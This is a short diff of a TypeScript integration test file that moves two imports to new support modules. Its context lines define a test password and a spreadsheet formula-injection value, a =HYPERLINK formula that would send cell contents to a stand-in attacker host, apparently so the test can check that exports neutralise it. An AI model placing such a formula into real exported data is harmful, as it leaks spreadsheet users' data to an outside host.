@@ -11,8 +11,8 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { DatabaseSync } from "node:sqlite";
 import { after, before, describe, it } from "node:test";
-import { eventually, runCommand } from "../integration/support.ts";
-import { startServer, upgrade, type ServerProcess } from "./server-support.ts";
+import { eventually, runCommand } from "../support/cluster.ts";
+import { startServer, upgrade, type ServerProcess } from "../support/server.ts";
 
 const PASSWORD = "correct horse battery staple";
 const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A2&B2,"Open")';
